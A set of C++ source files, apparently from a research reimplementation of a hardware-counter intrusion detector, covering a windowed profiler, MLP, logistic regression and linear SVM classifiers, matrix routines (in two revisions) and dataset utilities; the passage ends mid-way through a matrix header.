    sample.true_delta = sim::delta(prev, now);
    sample.delta =
        add_measurement_noise(sample.true_delta, config, noise_rng);
    // The window saw attack activity if injected code is running at either
    // edge or an execve fired inside it.
    const bool now_injected = kernel.in_injected_binary();
    sample.injected = was_injected || now_injected ||
                      kernel.execve_count() != prev_execves;
    prev = now;
    prev_execves = kernel.execve_count();
    was_injected = now_injected;

    // Skip empty trailing windows (program already halted).
    if (sample.true_delta[static_cast<std::size_t>(sim::Event::kCycles)] > 0 ||
        sample.true_delta[static_cast<std::size_t>(
            sim::Event::kInstructions)] > 0) {
      out.windows.push_back(sample);
      if constexpr (obs::kEnabled) {
        if (obs::tracing_enabled()) {
          const std::uint64_t at = machine.cpu().cycle();
          const auto ev = [&](sim::Event e) {
            return static_cast<double>(
                sample.delta[static_cast<std::size_t>(e)]);
          };
          obs::trace_instant("hid.profiler.window", at,
                             sample.injected ? 1.0 : 0.0);
          obs::trace_counter("hid.profiler.window.instructions", at,
                             ev(sim::Event::kInstructions));
          obs::trace_counter("hid.profiler.window.l1d_misses", at,
                             ev(sim::Event::kL1dMisses));
          obs::trace_counter("hid.profiler.window.branch_mispredicts", at,
                             ev(sim::Event::kBranchMispredicts));
          obs::trace_counter("hid.profiler.window.spec_instructions", at,
                             ev(sim::Event::kSpecInstructions));
        }
      }
    }

    if (reason != sim::StopReason::kCycleLimit) {
      out.stop = reason;
      break;
    }
    if (out.windows.size() >= config.max_windows) {
      out.stop = sim::StopReason::kCycleLimit;
      break;
    }
  }

  out.output = kernel.output_string();
  out.cycles = machine.cpu().cycle() - start_cycle;
  out.instructions = machine.cpu().retired() - start_instr;

  if constexpr (obs::kEnabled) {
    auto& reg = obs::MetricsRegistry::instance();
    reg.counter("hid.profiler.runs").add(1);
    reg.counter("hid.profiler.windows").add(out.windows.size());
    reg.counter("hid.profiler.injected_windows")
        .add(out.injected_window_count());
    static constexpr double kWindowCycleBounds[] = {1e3, 2e3, 5e3, 1e4,
                                                    2e4, 5e4, 1e5};
    auto& hist = reg.histogram("hid.profiler.window_cycles",
                               std::span<const double>(kWindowCycleBounds));
    for (const auto& w : out.windows) {
      hist.observe(static_cast<double>(
          w.true_delta[static_cast<std::size_t>(sim::Event::kCycles)]));
    }
  }
  return out;
}

ProfileResult profile_run_strings(sim::Kernel& kernel, const std::string& path,
                                  const std::vector<std::string>& args,
                                  const ProfilerConfig& config) {
  std::vector<std::vector<std::uint8_t>> raw;
  raw.reserve(args.size());
  for (const auto& a : args) raw.emplace_back(a.begin(), a.end());
  return profile_run(kernel, path, raw, config);
}

}  // namespace crs::hid
