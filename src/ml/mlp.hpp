// Multi-layer perceptron with ReLU hidden layers and a sigmoid output,
// trained with minibatch Adam — the paper's "MLP (Sklearn)" (3-layer) and
// "NN from TensorFlow" (6-layer, ReLU) detectors are both instances.
#pragma once

#include <cstdint>
#include <memory>
#include <vector>

#include "ml/classifier.hpp"
#include "support/rng.hpp"

namespace crs::ml {

struct MlpConfig {
  std::vector<int> hidden = {24, 12};
  int epochs = 60;
  int partial_epochs = 6;  ///< epochs per partial_fit batch
  int batch_size = 32;
  double learning_rate = 0.01;
  double l2 = 1e-5;
  std::uint64_t seed = 7;
  std::string display_name = "MLP";
};

class Mlp final : public Classifier {
 public:
  explicit Mlp(const MlpConfig& config = {});

  void fit(const Matrix& x, const std::vector<int>& y) override;
  void partial_fit(const Matrix& x, const std::vector<int>& y) override;
  double predict_proba(std::span<const double> x) const override;
  std::string name() const override { return config_.display_name; }

  /// Total trainable parameters (after fit).
  std::size_t parameter_count() const;

 private:
  struct Layer {
    Matrix w;                 // (in x out)
    std::vector<double> b;    // out
    // Adam state.
    Matrix mw, vw;
    std::vector<double> mb, vb;
  };

  /// Forward pass writing into a caller-owned workspace: `acts[0]` is the
  /// input, `acts[li + 1]` layer li's activations. The workspace's buffers
  /// are reused across calls (no per-sample allocation on the training
  /// path — the vectors keep their capacity between samples and epochs).
  void forward_into(std::span<const double> x,
                    std::vector<std::vector<double>>& acts) const;
  void train_epochs(const Matrix& x, const std::vector<int>& y, int epochs,
                    Rng& rng);

  MlpConfig config_;
  std::vector<Layer> layers_;
  std::uint64_t adam_t_ = 0;
};

/// Paper §III-A configurations.
MlpConfig mlp3_config();  ///< "the MLP is 3-layer network-based classifier"
MlpConfig nn6_config();   ///< "the neural networks have 6-layers using Relu"

/// Factory covering the paper's detector zoo: "MLP", "NN", "LR", "SVM".
std::unique_ptr<Classifier> make_classifier(const std::string& kind,
                                            std::uint64_t seed);

/// The zoo's display names in paper order.
std::vector<std::string> classifier_zoo();

}  // namespace crs::ml
