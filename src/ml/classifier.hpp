// Common interface of the HID's classifier zoo (paper §III-A: MLP, a
// deeper TensorFlow-style NN, Logistic Regression and a linear SVM).
#pragma once

#include <memory>
#include <span>
#include <string>
#include <vector>

#include "ml/matrix.hpp"

namespace crs::ml {

class Classifier {
 public:
  virtual ~Classifier() = default;

  /// Trains from scratch (refitting replaces the previous model).
  virtual void fit(const Matrix& x, const std::vector<int>& y) = 0;

  /// Online-learning update: continues training the CURRENT model on the
  /// new batch only (sklearn partial_fit semantics). Unlike a full refit
  /// this adapts gradually — and can partially forget older regions, which
  /// is the weakness a defense-aware moving-target attack exploits.
  /// Default: falls back to fit() when the model was never fitted.
  virtual void partial_fit(const Matrix& x, const std::vector<int>& y) = 0;

  /// P(attack | x) in [0, 1].
  virtual double predict_proba(std::span<const double> x) const = 0;

  virtual std::string name() const = 0;

  /// Label with a 0.5 threshold.
  int predict(std::span<const double> x) const {
    return predict_proba(x) >= 0.5 ? 1 : 0;
  }

  std::vector<int> predict_batch(const Matrix& x) const {
    std::vector<int> out(x.rows());
    for (std::size_t i = 0; i < x.rows(); ++i) out[i] = predict(x.row(i));
    return out;
  }
};

}  // namespace crs::ml
