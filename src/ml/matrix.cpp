#include "ml/matrix.hpp"

#include "support/error.hpp"

namespace crs::ml {

Matrix::Matrix(std::size_t rows, std::size_t cols, double fill)
    : rows_(rows), cols_(cols), values_(rows * cols, fill) {}

Matrix Matrix::from_rows(const std::vector<std::vector<double>>& rows) {
  Matrix m;
  if (rows.empty()) return m;
  m.rows_ = rows.size();
  m.cols_ = rows.front().size();
  m.values_.reserve(m.rows_ * m.cols_);
  for (const auto& r : rows) {
    CRS_ENSURE(r.size() == m.cols_, "ragged rows in Matrix::from_rows");
    m.values_.insert(m.values_.end(), r.begin(), r.end());
  }
  return m;
}

double& Matrix::at(std::size_t r, std::size_t c) {
  CRS_ENSURE(r < rows_ && c < cols_, "Matrix::at out of range");
  return values_[r * cols_ + c];
}

double Matrix::at(std::size_t r, std::size_t c) const {
  CRS_ENSURE(r < rows_ && c < cols_, "Matrix::at out of range");
  return values_[r * cols_ + c];
}

std::span<double> Matrix::row(std::size_t r) {
  CRS_ENSURE(r < rows_, "Matrix::row out of range");
  return std::span<double>(values_).subspan(r * cols_, cols_);
}

std::span<const double> Matrix::row(std::size_t r) const {
  CRS_ENSURE(r < rows_, "Matrix::row out of range");
  return std::span<const double>(values_).subspan(r * cols_, cols_);
}

void Matrix::append_row(std::span<const double> values) {
  if (rows_ == 0 && cols_ == 0) cols_ = values.size();
  CRS_ENSURE(values.size() == cols_, "append_row width mismatch");
  values_.insert(values_.end(), values.begin(), values.end());
  ++rows_;
}

Matrix Matrix::multiply(const Matrix& other) const {
  CRS_ENSURE(cols_ == other.rows_, "matrix shape mismatch in multiply");
  Matrix out(rows_, other.cols_);
  for (std::size_t i = 0; i < rows_; ++i) {
    for (std::size_t k = 0; k < cols_; ++k) {
      const double aik = values_[i * cols_ + k];
      if (aik == 0.0) continue;
      for (std::size_t j = 0; j < other.cols_; ++j) {
        out.values_[i * other.cols_ + j] +=
            aik * other.values_[k * other.cols_ + j];
      }
    }
  }
  return out;
}

Matrix Matrix::transposed() const {
  Matrix out(cols_, rows_);
  for (std::size_t i = 0; i < rows_; ++i) {
    for (std::size_t j = 0; j < cols_; ++j) {
      out.values_[j * rows_ + i] = values_[i * cols_ + j];
    }
  }
  return out;
}

double dot(std::span<const double> a, std::span<const double> b) {
  CRS_ENSURE(a.size() == b.size(), "dot size mismatch");
  double s = 0.0;
  for (std::size_t i = 0; i < a.size(); ++i) s += a[i] * b[i];
  return s;
}

}  // namespace crs::ml
