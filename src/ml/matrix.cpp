#include "ml/matrix.hpp"

#include <algorithm>

#include "support/error.hpp"

namespace crs::ml {

Matrix::Matrix(std::size_t rows, std::size_t cols, double fill)
    : rows_(rows), cols_(cols), values_(rows * cols, fill) {}

Matrix Matrix::from_rows(const std::vector<std::vector<double>>& rows) {
  Matrix m;
  if (rows.empty()) return m;
  m.rows_ = rows.size();
  m.cols_ = rows.front().size();
  m.values_.reserve(m.rows_ * m.cols_);
  for (const auto& r : rows) {
    CRS_ENSURE(r.size() == m.cols_, "ragged rows in Matrix::from_rows");
    m.values_.insert(m.values_.end(), r.begin(), r.end());
  }
  return m;
}

double& Matrix::at(std::size_t r, std::size_t c) {
  CRS_ENSURE(r < rows_ && c < cols_, "Matrix::at out of range");
  return values_[r * cols_ + c];
}

double Matrix::at(std::size_t r, std::size_t c) const {
  CRS_ENSURE(r < rows_ && c < cols_, "Matrix::at out of range");
  return values_[r * cols_ + c];
}

std::span<double> Matrix::row(std::size_t r) {
  CRS_ENSURE(r < rows_, "Matrix::row out of range");
  return std::span<double>(values_).subspan(r * cols_, cols_);
}

std::span<const double> Matrix::row(std::size_t r) const {
  CRS_ENSURE(r < rows_, "Matrix::row out of range");
  return std::span<const double>(values_).subspan(r * cols_, cols_);
}

void Matrix::append_row(std::span<const double> values) {
  if (rows_ == 0 && cols_ == 0) cols_ = values.size();
  CRS_ENSURE(values.size() == cols_, "append_row width mismatch");
  values_.insert(values_.end(), values.begin(), values.end());
  ++rows_;
}

Matrix Matrix::multiply(const Matrix& other) const {
  CRS_ENSURE(cols_ == other.rows_, "matrix shape mismatch in multiply");
  Matrix out(rows_, other.cols_);
  if (rows_ == 0 || cols_ == 0 || other.cols_ == 0) return out;
  // Pre-transpose the RHS so every inner product reads both operands with
  // unit stride, then tile the i/j loops so a block of B^T rows stays
  // cache-resident across a block of A rows. Each output element is one
  // contiguous k-ascending accumulation, so the result does not depend on
  // the tile size. The old `aik == 0.0` skip is gone: it made dense matmul
  // cost data-dependent; sparsity belongs in an explicit sparse path.
  const Matrix bt = other.transposed();
  constexpr std::size_t kTile = 32;
  for (std::size_t ib = 0; ib < rows_; ib += kTile) {
    const std::size_t iend = std::min(rows_, ib + kTile);
    for (std::size_t jb = 0; jb < other.cols_; jb += kTile) {
      const std::size_t jend = std::min(other.cols_, jb + kTile);
      for (std::size_t i = ib; i < iend; ++i) {
        const double* arow = &values_[i * cols_];
        double* orow = &out.values_[i * other.cols_];
        for (std::size_t j = jb; j < jend; ++j) {
          const double* brow = &bt.values_[j * cols_];
          double s = 0.0;
          for (std::size_t k = 0; k < cols_; ++k) s += arow[k] * brow[k];
          orow[j] = s;
        }
      }
    }
  }
  return out;
}

Matrix Matrix::transposed() const {
  Matrix out(cols_, rows_);
  for (std::size_t i = 0; i < rows_; ++i) {
    for (std::size_t j = 0; j < cols_; ++j) {
      out.values_[j * rows_ + i] = values_[i * cols_ + j];
    }
  }
  return out;
}

double dot(std::span<const double> a, std::span<const double> b) {
  CRS_ENSURE(a.size() == b.size(), "dot size mismatch");
  double s = 0.0;
  for (std::size_t i = 0; i < a.size(); ++i) s += a[i] * b[i];
  return s;
}

}  // namespace crs::ml
