#include "ml/mlp.hpp"

#include <cmath>
#include <numeric>

#include "ml/linear.hpp"
#include "support/error.hpp"

namespace crs::ml {

namespace {

double sigmoid(double z) {
  if (z >= 0) {
    const double e = std::exp(-z);
    return 1.0 / (1.0 + e);
  }
  const double e = std::exp(z);
  return e / (1.0 + e);
}

constexpr double kAdamB1 = 0.9;
constexpr double kAdamB2 = 0.999;
constexpr double kAdamEps = 1e-8;

}  // namespace

Mlp::Mlp(const MlpConfig& config) : config_(config) {
  CRS_ENSURE(!config_.hidden.empty(), "MLP needs at least one hidden layer");
  for (const int h : config_.hidden) {
    CRS_ENSURE(h > 0, "hidden layer sizes must be positive");
  }
}

std::size_t Mlp::parameter_count() const {
  std::size_t n = 0;
  for (const auto& layer : layers_) {
    n += layer.w.rows() * layer.w.cols() + layer.b.size();
  }
  return n;
}

void Mlp::forward_into(std::span<const double> x,
                       std::vector<std::vector<double>>& acts) const {
  acts.resize(layers_.size() + 1);
  acts[0].assign(x.begin(), x.end());
  for (std::size_t li = 0; li < layers_.size(); ++li) {
    const Layer& layer = layers_[li];
    const bool is_output = li + 1 == layers_.size();
    const auto& cur = acts[li];
    auto& next = acts[li + 1];
    next.assign(layer.b.begin(), layer.b.end());
    for (std::size_t i = 0; i < layer.w.rows(); ++i) {
      const double xi = cur[i];
      if (xi == 0.0) continue;  // ReLU emits exact zeros: skip dead units
      const auto wrow = layer.w.row(i);
      for (std::size_t j = 0; j < wrow.size(); ++j) next[j] += xi * wrow[j];
    }
    for (auto& v : next) {
      v = is_output ? sigmoid(v) : std::max(0.0, v);  // ReLU hidden
    }
  }
}

void Mlp::fit(const Matrix& x, const std::vector<int>& y) {
  CRS_ENSURE(x.rows() == y.size(), "X/y size mismatch");
  CRS_ENSURE(x.rows() > 0, "empty training set");

  // (Re-)initialise He-style weights.
  Rng rng(config_.seed);
  layers_.clear();
  adam_t_ = 0;
  std::vector<int> sizes;
  sizes.push_back(static_cast<int>(x.cols()));
  for (const int h : config_.hidden) sizes.push_back(h);
  sizes.push_back(1);
  for (std::size_t li = 0; li + 1 < sizes.size(); ++li) {
    Layer layer;
    const auto in = static_cast<std::size_t>(sizes[li]);
    const auto out = static_cast<std::size_t>(sizes[li + 1]);
    layer.w = Matrix(in, out);
    const double scale = std::sqrt(2.0 / static_cast<double>(in));
    for (auto& v : layer.w.data()) v = rng.next_gaussian(0.0, scale);
    layer.b.assign(out, 0.0);
    layer.mw = Matrix(in, out);
    layer.vw = Matrix(in, out);
    layer.mb.assign(out, 0.0);
    layer.vb.assign(out, 0.0);
    layers_.push_back(std::move(layer));
  }

  train_epochs(x, y, config_.epochs, rng);
}

void Mlp::partial_fit(const Matrix& x, const std::vector<int>& y) {
  CRS_ENSURE(x.rows() == y.size(), "X/y size mismatch");
  if (layers_.empty()) {
    fit(x, y);
    return;
  }
  CRS_ENSURE(x.cols() == layers_.front().w.rows(), "feature width mismatch");
  Rng rng(config_.seed ^ (0x517EC0DEull + adam_t_));
  train_epochs(x, y, config_.partial_epochs, rng);
}

void Mlp::train_epochs(const Matrix& x, const std::vector<int>& y, int epochs,
                       Rng& rng) {
  std::vector<std::size_t> order(x.rows());
  std::iota(order.begin(), order.end(), 0);

  // Per-batch gradient accumulators, same shapes as the layers.
  std::vector<Matrix> gw;
  std::vector<std::vector<double>> gb;
  for (const auto& layer : layers_) {
    gw.emplace_back(layer.w.rows(), layer.w.cols());
    gb.emplace_back(layer.b.size(), 0.0);
  }

  // Activation/delta workspaces, reused across samples and epochs: the
  // per-sample inner loop performs no allocations once these reach their
  // steady-state capacities.
  std::vector<std::vector<double>> acts;
  std::vector<double> delta;
  std::vector<double> prev;

  for (int epoch = 0; epoch < epochs; ++epoch) {
    rng.shuffle(order);
    for (std::size_t start = 0; start < order.size();
         start += static_cast<std::size_t>(config_.batch_size)) {
      const std::size_t end = std::min(
          order.size(), start + static_cast<std::size_t>(config_.batch_size));
      for (auto& g : gw)
        for (auto& v : g.data()) v = 0.0;
      for (auto& g : gb)
        for (auto& v : g) v = 0.0;

      for (std::size_t oi = start; oi < end; ++oi) {
        const std::size_t i = order[oi];
        forward_into(x.row(i), acts);
        // delta at output: sigmoid + BCE -> (p - y)
        delta.assign(1, acts.back()[0] - static_cast<double>(y[i]));
        for (std::size_t li = layers_.size(); li-- > 0;) {
          const auto& a_in = acts[li];
          // grads
          for (std::size_t r = 0; r < layers_[li].w.rows(); ++r) {
            const double ar = a_in[r];
            if (ar == 0.0) continue;
            auto grow = gw[li].row(r);
            for (std::size_t c = 0; c < grow.size(); ++c) {
              grow[c] += ar * delta[c];
            }
          }
          for (std::size_t c = 0; c < delta.size(); ++c) gb[li][c] += delta[c];
          if (li == 0) break;
          // propagate: delta_prev = W * delta, gated by ReLU derivative
          prev.assign(layers_[li].w.rows(), 0.0);
          for (std::size_t r = 0; r < layers_[li].w.rows(); ++r) {
            prev[r] = dot(layers_[li].w.row(r), delta);
            if (acts[li][r] <= 0.0) prev[r] = 0.0;  // ReLU'
          }
          delta.swap(prev);
        }
      }

      // Adam step.
      ++adam_t_;
      const double bc1 = 1.0 - std::pow(kAdamB1, static_cast<double>(adam_t_));
      const double bc2 = 1.0 - std::pow(kAdamB2, static_cast<double>(adam_t_));
      const double inv_batch = 1.0 / static_cast<double>(end - start);
      for (std::size_t li = 0; li < layers_.size(); ++li) {
        Layer& layer = layers_[li];
        auto wdata = layer.w.data();
        auto mdata = layer.mw.data();
        auto vdata = layer.vw.data();
        auto gdata = gw[li].data();
        for (std::size_t k = 0; k < wdata.size(); ++k) {
          const double g = gdata[k] * inv_batch + config_.l2 * wdata[k];
          mdata[k] = kAdamB1 * mdata[k] + (1.0 - kAdamB1) * g;
          vdata[k] = kAdamB2 * vdata[k] + (1.0 - kAdamB2) * g * g;
          wdata[k] -= config_.learning_rate * (mdata[k] / bc1) /
                      (std::sqrt(vdata[k] / bc2) + kAdamEps);
        }
        for (std::size_t k = 0; k < layer.b.size(); ++k) {
          const double g = gb[li][k] * inv_batch;
          layer.mb[k] = kAdamB1 * layer.mb[k] + (1.0 - kAdamB1) * g;
          layer.vb[k] = kAdamB2 * layer.vb[k] + (1.0 - kAdamB2) * g * g;
          layer.b[k] -= config_.learning_rate * (layer.mb[k] / bc1) /
                        (std::sqrt(layer.vb[k] / bc2) + kAdamEps);
        }
      }
    }
  }
}

double Mlp::predict_proba(std::span<const double> x) const {
  CRS_ENSURE(!layers_.empty(), "MLP not fitted");
  CRS_ENSURE(x.size() == layers_.front().w.rows(), "feature width mismatch");
  // Local workspace: predict_proba must stay thread-safe (the parallel
  // campaign runner scores windows concurrently on a shared detector).
  std::vector<std::vector<double>> acts;
  forward_into(x, acts);
  return acts.back()[0];
}

MlpConfig mlp3_config() {
  MlpConfig cfg;
  cfg.hidden = {24, 12};  // input + 2 hidden + output ≈ sklearn "3-layer"
  cfg.display_name = "MLP";
  return cfg;
}

MlpConfig nn6_config() {
  MlpConfig cfg;
  cfg.hidden = {32, 32, 16, 16, 8};  // 6 weight layers of ReLU units
  cfg.epochs = 80;
  cfg.display_name = "NN";
  return cfg;
}

std::unique_ptr<Classifier> make_classifier(const std::string& kind,
                                            std::uint64_t seed) {
  if (kind == "MLP") {
    MlpConfig cfg = mlp3_config();
    cfg.seed = seed;
    return std::make_unique<Mlp>(cfg);
  }
  if (kind == "NN") {
    MlpConfig cfg = nn6_config();
    cfg.seed = seed;
    return std::make_unique<Mlp>(cfg);
  }
  if (kind == "LR") {
    LinearConfig cfg;
    cfg.seed = seed;
    return std::make_unique<LogisticRegression>(cfg);
  }
  if (kind == "SVM") {
    LinearConfig cfg;
    cfg.seed = seed;
    return std::make_unique<LinearSvm>(cfg);
  }
  CRS_ENSURE(false, "unknown classifier kind '" + kind + "'");
}

std::vector<std::string> classifier_zoo() { return {"MLP", "NN", "LR", "SVM"}; }

}  // namespace crs::ml
