#include "ml/dataset.hpp"

#include <algorithm>
#include <cmath>
#include <numeric>

#include "support/error.hpp"

namespace crs::ml {

void Dataset::append(std::span<const double> features, int label) {
  CRS_ENSURE(label == 0 || label == 1, "labels must be 0/1");
  x.append_row(features);
  y.push_back(label);
}

void Dataset::append_all(const Dataset& other) {
  for (std::size_t i = 0; i < other.size(); ++i) {
    append(other.x.row(i), other.y[i]);
  }
}

SplitResult train_test_split(const Dataset& data, double train_fraction,
                             Rng& rng) {
  CRS_ENSURE(train_fraction > 0.0 && train_fraction < 1.0,
             "train_fraction must be in (0, 1)");
  std::vector<std::size_t> order(data.size());
  std::iota(order.begin(), order.end(), 0);
  rng.shuffle(order);
  const auto cut =
      static_cast<std::size_t>(train_fraction * static_cast<double>(order.size()));
  SplitResult out;
  for (std::size_t i = 0; i < order.size(); ++i) {
    Dataset& dst = i < cut ? out.train : out.test;
    dst.append(data.x.row(order[i]), data.y[order[i]]);
  }
  return out;
}

void StandardScaler::fit(const Matrix& x) {
  CRS_ENSURE(x.rows() > 0, "cannot fit scaler on empty data");
  mean_.assign(x.cols(), 0.0);
  inv_std_.assign(x.cols(), 1.0);
  for (std::size_t i = 0; i < x.rows(); ++i) {
    const auto row = x.row(i);
    for (std::size_t j = 0; j < x.cols(); ++j) mean_[j] += row[j];
  }
  for (auto& m : mean_) m /= static_cast<double>(x.rows());
  std::vector<double> var(x.cols(), 0.0);
  for (std::size_t i = 0; i < x.rows(); ++i) {
    const auto row = x.row(i);
    for (std::size_t j = 0; j < x.cols(); ++j) {
      const double d = row[j] - mean_[j];
      var[j] += d * d;
    }
  }
  for (std::size_t j = 0; j < x.cols(); ++j) {
    const double sd = std::sqrt(var[j] / static_cast<double>(x.rows()));
    inv_std_[j] = sd > 1e-12 ? 1.0 / sd : 1.0;
  }
}

std::vector<double> StandardScaler::transform(
    std::span<const double> row) const {
  CRS_ENSURE(fitted(), "scaler not fitted");
  CRS_ENSURE(row.size() == mean_.size(), "scaler width mismatch");
  std::vector<double> out(row.size());
  for (std::size_t j = 0; j < row.size(); ++j) {
    out[j] = (row[j] - mean_[j]) * inv_std_[j];
  }
  return out;
}

Matrix StandardScaler::transform(const Matrix& x) const {
  Matrix out(x.rows(), x.cols());
  for (std::size_t i = 0; i < x.rows(); ++i) {
    const auto t = transform(x.row(i));
    std::copy(t.begin(), t.end(), out.row(i).begin());
  }
  return out;
}

std::vector<double> fisher_scores(const Dataset& data) {
  const std::size_t cols = data.x.cols();
  std::vector<double> mean0(cols, 0.0), mean1(cols, 0.0);
  std::vector<double> var0(cols, 0.0), var1(cols, 0.0);
  std::size_t n0 = 0, n1 = 0;
  for (std::size_t i = 0; i < data.size(); ++i) {
    const auto row = data.x.row(i);
    auto& mean = data.y[i] == 0 ? mean0 : mean1;
    (data.y[i] == 0 ? n0 : n1) += 1;
    for (std::size_t j = 0; j < cols; ++j) mean[j] += row[j];
  }
  CRS_ENSURE(n0 > 0 && n1 > 0, "fisher_scores needs both classes");
  for (std::size_t j = 0; j < cols; ++j) {
    mean0[j] /= static_cast<double>(n0);
    mean1[j] /= static_cast<double>(n1);
  }
  for (std::size_t i = 0; i < data.size(); ++i) {
    const auto row = data.x.row(i);
    auto& mean = data.y[i] == 0 ? mean0 : mean1;
    auto& var = data.y[i] == 0 ? var0 : var1;
    for (std::size_t j = 0; j < cols; ++j) {
      const double d = row[j] - mean[j];
      var[j] += d * d;
    }
  }
  std::vector<double> scores(cols, 0.0);
  for (std::size_t j = 0; j < cols; ++j) {
    const double v0 = var0[j] / static_cast<double>(n0);
    const double v1 = var1[j] / static_cast<double>(n1);
    const double sep = mean1[j] - mean0[j];
    scores[j] = sep * sep / (v0 + v1 + 1e-12);
  }
  return scores;
}

std::vector<std::size_t> top_k_features(const Dataset& data, std::size_t k) {
  const auto scores = fisher_scores(data);
  std::vector<std::size_t> order(scores.size());
  std::iota(order.begin(), order.end(), 0);
  std::stable_sort(order.begin(), order.end(), [&](std::size_t a, std::size_t b) {
    return scores[a] > scores[b];
  });
  order.resize(std::min(k, order.size()));
  return order;
}

Dataset select_features(const Dataset& data,
                        const std::vector<std::size_t>& indices) {
  Dataset out;
  std::vector<double> row(indices.size());
  for (std::size_t i = 0; i < data.size(); ++i) {
    const auto src = data.x.row(i);
    for (std::size_t j = 0; j < indices.size(); ++j) {
      CRS_ENSURE(indices[j] < src.size(), "feature index out of range");
      row[j] = src[indices[j]];
    }
    out.append(row, data.y[i]);
  }
  return out;
}

}  // namespace crs::ml
