#include "ml/linear.hpp"

#include <cmath>
#include <numeric>

#include "support/error.hpp"

namespace crs::ml {

namespace {

double sigmoid(double z) {
  if (z >= 0) {
    const double e = std::exp(-z);
    return 1.0 / (1.0 + e);
  }
  const double e = std::exp(z);
  return e / (1.0 + e);
}

std::vector<std::size_t> shuffled_order(std::size_t n, Rng& rng) {
  std::vector<std::size_t> order(n);
  std::iota(order.begin(), order.end(), 0);
  rng.shuffle(order);
  return order;
}

}  // namespace

LogisticRegression::LogisticRegression(const LinearConfig& config)
    : config_(config) {}

void LogisticRegression::fit(const Matrix& x, const std::vector<int>& y) {
  CRS_ENSURE(x.rows() == y.size(), "X/y size mismatch");
  CRS_ENSURE(x.rows() > 0, "empty training set");
  weights_.assign(x.cols(), 0.0);
  bias_ = 0.0;
  run_epochs(x, y, config_.epochs);
}

void LogisticRegression::partial_fit(const Matrix& x,
                                     const std::vector<int>& y) {
  CRS_ENSURE(x.rows() == y.size(), "X/y size mismatch");
  if (weights_.empty()) {
    fit(x, y);
    return;
  }
  CRS_ENSURE(x.cols() == weights_.size(), "feature width mismatch");
  run_epochs(x, y, config_.partial_epochs);
}

void LogisticRegression::run_epochs(const Matrix& x, const std::vector<int>& y,
                                    int epochs) {
  Rng rng(config_.seed ^ static_cast<std::uint64_t>(x.rows()));
  for (int epoch = 0; epoch < epochs; ++epoch) {
    const double lr =
        config_.learning_rate / (1.0 + 0.02 * static_cast<double>(epoch));
    for (const std::size_t i : shuffled_order(x.rows(), rng)) {
      const auto row = x.row(i);
      const double p = sigmoid(dot(weights_, row) + bias_);
      const double err = p - static_cast<double>(y[i]);
      for (std::size_t j = 0; j < weights_.size(); ++j) {
        weights_[j] -= lr * (err * row[j] + config_.l2 * weights_[j]);
      }
      bias_ -= lr * err;
    }
  }
}

double LogisticRegression::predict_proba(std::span<const double> x) const {
  CRS_ENSURE(x.size() == weights_.size(), "feature width mismatch");
  return sigmoid(dot(weights_, x) + bias_);
}

LinearSvm::LinearSvm(const LinearConfig& config) : config_(config) {}

void LinearSvm::fit(const Matrix& x, const std::vector<int>& y) {
  CRS_ENSURE(x.rows() == y.size(), "X/y size mismatch");
  CRS_ENSURE(x.rows() > 0, "empty training set");
  weights_.assign(x.cols(), 0.0);
  bias_ = 0.0;
  pegasos_t_ = 1;
  run_epochs(x, y, config_.epochs);
}

void LinearSvm::partial_fit(const Matrix& x, const std::vector<int>& y) {
  CRS_ENSURE(x.rows() == y.size(), "X/y size mismatch");
  if (weights_.empty()) {
    fit(x, y);
    return;
  }
  CRS_ENSURE(x.cols() == weights_.size(), "feature width mismatch");
  run_epochs(x, y, config_.partial_epochs);
}

void LinearSvm::run_epochs(const Matrix& x, const std::vector<int>& y,
                           int epochs) {
  Rng rng(config_.seed ^ static_cast<std::uint64_t>(x.rows()));
  const double lambda = std::max(config_.l2, 1e-6);
  std::uint64_t& t = pegasos_t_;
  for (int epoch = 0; epoch < epochs; ++epoch) {
    for (const std::size_t i : shuffled_order(x.rows(), rng)) {
      const double lr = 1.0 / (lambda * static_cast<double>(t));
      const auto row = x.row(i);
      const double target = y[i] == 1 ? 1.0 : -1.0;
      const double m = (dot(weights_, row) + bias_) * target;
      for (std::size_t j = 0; j < weights_.size(); ++j) {
        weights_[j] *= 1.0 - lr * lambda;
      }
      if (m < 1.0) {
        for (std::size_t j = 0; j < weights_.size(); ++j) {
          weights_[j] += lr * target * row[j];
        }
        bias_ += lr * target * 0.1;  // lightly-regularised bias
      }
      ++t;
    }
  }
}

double LinearSvm::margin(std::span<const double> x) const {
  CRS_ENSURE(x.size() == weights_.size(), "feature width mismatch");
  return dot(weights_, x) + bias_;
}

double LinearSvm::predict_proba(std::span<const double> x) const {
  return sigmoid(2.0 * margin(x));
}

}  // namespace crs::ml
