// Dataset plumbing for the HID: labelled feature matrices, the paper's
// 70/30 train/test split, z-score standardisation, and Fisher-score
// feature ranking (for the Fig. 4 feature-size sweep).
#pragma once

#include <cstddef>
#include <vector>

#include "ml/matrix.hpp"
#include "support/rng.hpp"

namespace crs::ml {

/// Binary-labelled dataset: y[i] in {0 = benign, 1 = attack}.
struct Dataset {
  Matrix x;
  std::vector<int> y;

  std::size_t size() const { return y.size(); }
  void append(std::span<const double> features, int label);
  /// Concatenates another dataset (same width).
  void append_all(const Dataset& other);
};

struct SplitResult {
  Dataset train;
  Dataset test;
};

/// Shuffled split; `train_fraction` of samples go to train (paper: 0.7).
SplitResult train_test_split(const Dataset& data, double train_fraction,
                             Rng& rng);

/// Per-feature z-score standardisation fitted on training data.
class StandardScaler {
 public:
  void fit(const Matrix& x);
  std::vector<double> transform(std::span<const double> row) const;
  Matrix transform(const Matrix& x) const;
  bool fitted() const { return !mean_.empty(); }

 private:
  std::vector<double> mean_;
  std::vector<double> inv_std_;
};

/// Fisher score per feature: (m1-m0)^2 / (v0+v1). Higher = more
/// class-separating. Returns one score per column.
std::vector<double> fisher_scores(const Dataset& data);

/// Indices of the `k` highest-Fisher-score features, best first.
std::vector<std::size_t> top_k_features(const Dataset& data, std::size_t k);

/// Column subset of a dataset.
Dataset select_features(const Dataset& data,
                        const std::vector<std::size_t>& indices);

}  // namespace crs::ml
