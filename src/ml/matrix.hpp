// Minimal dense row-major matrix for the HID's classifiers.
//
// Deliberately small: the detectors operate on a few thousand samples with
// at most a couple dozen features, so clarity beats BLAS here.
#pragma once

#include <cstddef>
#include <span>
#include <vector>

namespace crs::ml {

class Matrix {
 public:
  Matrix() = default;
  Matrix(std::size_t rows, std::size_t cols, double fill = 0.0);

  static Matrix from_rows(const std::vector<std::vector<double>>& rows);

  std::size_t rows() const { return rows_; }
  std::size_t cols() const { return cols_; }
  bool empty() const { return rows_ == 0 || cols_ == 0; }

  double& at(std::size_t r, std::size_t c);
  double at(std::size_t r, std::size_t c) const;

  std::span<double> row(std::size_t r);
